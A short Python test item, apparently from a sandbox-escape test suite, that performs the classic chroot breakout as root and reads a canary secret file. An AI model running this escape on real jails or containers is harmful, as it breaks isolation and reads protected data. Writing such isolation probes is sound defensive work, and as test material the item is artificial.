# id: FS-30
# tries: chroot into a folder below and climb out with ..
# success: a folder of the host
# host: root
# end: answers


def attempt():
    os.mkdir(work + '/jail')
    os.chroot(work + '/jail')
    for _ in range(40):
        os.chdir('..')
    os.chroot('.')
    return open(canary['secret_file']).read()
